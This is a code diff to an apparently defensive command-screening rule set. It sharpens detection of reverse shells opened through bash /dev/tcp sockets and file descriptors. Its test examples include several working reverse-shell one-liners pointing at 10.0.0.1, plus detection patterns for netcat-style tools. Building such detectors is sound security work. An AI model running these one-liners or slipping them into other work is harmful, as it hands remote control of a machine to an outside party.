@@ -74,6 +74,18 @@ function evalsSetup(args: readonly string[]): boolean {
 /** A program chosen at run time: a variable, a substitution or a pattern in command position. */
 const INDIRECT = /^[$=]|\$\(|`|[*?[]/;
 
+/** A bash socket path: `/dev/tcp/HOST/PORT`, `/dev/udp/HOST/PORT`. */
+const SOCKET_PATH = /^\/dev\/(tcp|udp)\//;
+
+/** Whether `c` opens a bash socket (as a redirection, or a word the parser could not place). */
+const opensSocket = (c: Invocation) =>
+  c.redirects.some((x) => SOCKET_PATH.test(x.target)) || c.args.some((a) => SOCKET_PATH.test(a));
+
+/** A shell, interpreter or run-time program reading from or writing to descriptor 3 or above. */
+const fedFromDescriptor = (c: Invocation) =>
+  (runsCode(c) || c.name.startsWith("$")) &&
+  c.redirects.some((x) => /^[<>]&$/.test(x.op) && /^\d+$/.test(x.target) && Number(x.target) > 2);
+
 /** A recursive flag, as most programs that delete, copy or change trees spell it. */
 const RECURSIVE = /^(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)$/;
 
@@ -289,19 +301,27 @@ export const codeRules = rules("code", [
     reason: "opens a shell that someone on the network can control",
     on: "*",
     evenDryRun: true,
-    match: (r, c) =>
+    match: (r, c, l) =>
       (SOCKET_TOOLS.has(c.key) &&
         r.args.some((a) => /^-[a-z]*[ec]$/.test(a) || /exec:|system:/i.test(a)) &&
         r.args.some((a) => /(^|\/)(ba|z|k|da)?sh\b|cmd\.exe|exec:/i.test(a))) ||
-      c.redirects.some((x) => /^\/dev\/(tcp|udp)\//.test(x.target)) ||
-      r.args.some((a) => /^\/dev\/(tcp|udp)\/|socket\.socket\(.*(connect|dup2)|pty\.spawn/.test(a)),
+      // A bash socket (`/dev/tcp/host/port`) given to a shell, or opened on a descriptor that
+      // a shell on the line reads its code from (`exec 5<>/dev/tcp/…; sh <&5 >&5`).
+      (opensSocket(c) && (runsCode(c) || l.commands.some(fedFromDescriptor))) ||
+      r.args.some((a) => /socket\.socket\(.*(connect|dup2)|pty\.spawn/.test(a)),
     examples: {
       hit: [
         "nc -l -p 4444 -e /bin/bash",
         "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
         "ncat -lvp 4444 -e /bin/sh",
+        "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
+        "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read l; do $l 2>&5 >&5; done",
       ],
-      miss: ["nc -zv host 443", "nc -l 8080"],
+      miss: [
+        "nc -zv host 443",
+        "nc -l 8080",
+        "exec 3<>/dev/tcp/example.com/80; echo -e 'GET / HTTP/1.0\\n' >&3; cat <&3",
+      ],
     },
   },
   {
